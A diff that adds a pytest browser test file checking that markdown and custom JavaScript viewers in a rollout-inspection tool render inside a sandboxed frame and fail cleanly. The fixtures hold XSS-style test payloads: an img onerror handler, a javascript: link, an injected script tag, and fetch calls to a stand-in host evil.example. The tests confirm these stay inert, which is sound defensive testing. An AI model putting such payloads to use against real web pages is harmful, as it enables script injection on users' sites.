@@ -1,0 +1,118 @@
+"""Markdown and viewers draw in a sandboxed frame: hostile ones stay inert and fall back to text."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import rollscope as rs
+from rollscope.trust import trusted
+from tests.web.conftest import Served, Watched, until
+
+pytestmark = pytest.mark.browser
+TEXT = (
+    "# Head\n\n**bold** \\(\\frac{1}{2}\\) <img src=x onerror=\"parent.document.title='owned'\"> "
+    "[go](javascript:parent.document.title='owned') ![p](https://evil.example/x.png)"
+)
+VIEWERS = {
+    "good": "export const draw = (s) => `<svg width='80'><title>${s.id}</title></svg><p id='ok'>drawn</p>`;",
+    "hostile": (
+        "try { fetch('https://evil.example/' + 1).catch(() => {}) } catch {}\n"
+        "export const draw = () => `<p id='ok'>drawn</p><img src='https://evil.example/x.png'>"
+        '<script>parent.document.title="owned"</script><a id="away" href="https://evil.example">x</a>`;'
+    ),
+    "throws": "export const draw = () => { throw new Error('no board') };",
+    "loops": "export const draw = () => { for (;;) {} };",
+    "broken": "export const draw = (",
+    "empty": "export const other = 1;",
+}
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    folder = tmp_path_factory.mktemp("drawn")
+    viewers = folder / ".rollscope" / "viewers"
+    viewers.mkdir(parents=True)
+    for name, source in VIEWERS.items():
+        (viewers / f"{name}.js").write_text(source)
+    with rs.init(project="p", id="a", dir=folder / "runs", host=False) as run:
+        samples = [
+            {"id": f"s-{env}", "group": env, "env": env, "prompt": "Question", "completion": TEXT, "reward": 1.0}
+            for env in [*VIEWERS, "plain"]
+        ]
+        pair = [
+            {"id": f"p-{side}", "group": "pair", "prompt": "Q", "completion": side, "reward": r, "tags": {"side": side}}
+            for side, r in (("rejected", 0.1), ("chosen", 0.9))
+        ]
+        run.log_samples(step=0, samples=[*samples, *pair])
+    yield folder
+    shutil.rmtree(folder)
+
+
+@pytest.fixture(scope="module")
+def site(project: Path) -> Iterator[str]:
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("ROLLSCOPE_CONFIG", str(project / "config"))
+        trusted.trust(str(project))
+        served = Served(project / "runs")
+        yield served.url
+        served.stop()
+
+
+def frame_of(tab: Any) -> Any:
+    tab.wait_for_selector("iframe[data-drawing='drawn']")
+    return next(frame for frame in tab.frames[1:] if frame.url.endswith("/frame"))
+
+
+def test_markdown_is_off_until_it_is_asked_for_and_runs_nothing(site: str, tab: Any) -> None:
+    tab.goto(f"{site}r/a/rollouts?group=plain")
+    tab.wait_for_selector("[data-sample] .conversation")
+    assert "# Head" in tab.inner_text(".conversation") and not tab.query_selector("iframe")
+    tab.click(".reader .controls button:has-text('Markdown')")
+    until(tab, "document.querySelectorAll('iframe[data-drawing=drawn]').length === 2")
+    drawn = [frame for frame in tab.frames[1:] if frame.query_selector("h1")]
+    assert drawn and drawn[0].inner_text("h1") == "Head" and drawn[0].query_selector("mfrac")
+    assert not drawn[0].query_selector("img, a, script:not(body > script)")
+    assert tab.title() != "owned" and "view=markdown" in tab.evaluate("location.search")
+
+
+def test_a_trusted_viewer_draws_its_environment(site: str, tab: Any) -> None:
+    tab.goto(f"{site}r/a/rollouts?group=good")
+    assert frame_of(tab).inner_text("#ok") == "drawn"
+    assert "# Head" in tab.inner_text(".conversation")  # the text stays below
+
+
+def test_a_hostile_viewer_reaches_nothing(site: str, browser: Any) -> None:
+    watched = Watched(browser)
+    tab = watched.page
+    tab.goto(f"{site}r/a/rollouts?group=hostile")
+    frame = frame_of(tab)
+    assert frame.inner_text("#ok") == "drawn"
+    frame.evaluate("document.querySelector('#away').click()")
+    until(tab, "document.title !== 'owned'")
+    assert tab.evaluate("location.href").startswith(site)
+    reached = [url for url in watched.requests if "evil.example" in url]
+    blocked = [error for error in watched.errors if "Content Security Policy" in error]
+    watched.context.close()
+    assert not reached or len(blocked) >= len(reached)
+
+
+@pytest.mark.parametrize("env", ["throws", "loops", "broken", "empty"])
+def test_a_viewer_that_fails_says_so_and_leaves_the_text(site: str, tab: Any, env: str) -> None:
+    tab.goto(f"{site}r/a/rollouts?group={env}")
+    said = tab.wait_for_selector("[data-drawing='failed']").inner_text()
+    assert f"The drawing of {env} cannot be shown" in said
+    assert "# Head" in tab.inner_text(".conversation")
+    assert {"throws": "no board", "loops": "did not finish within 3 s"}.get(env, "") in said
+
+
+def test_a_chosen_answer_stands_left_of_the_rejected_one(site: str, tab: Any) -> None:
+    tab.goto(f"{site}r/a/rollouts?group=pair")
+    tab.wait_for_selector("[data-sample='p-rejected'] .conversation")
+    order = tab.evaluate("[...document.querySelectorAll('[data-sample]')].map((e) => e.dataset.sample)")
+    assert order == ["p-chosen", "p-rejected"]
+    assert "side" not in tab.inner_text(".rollouts").replace("Samples side by side", "")
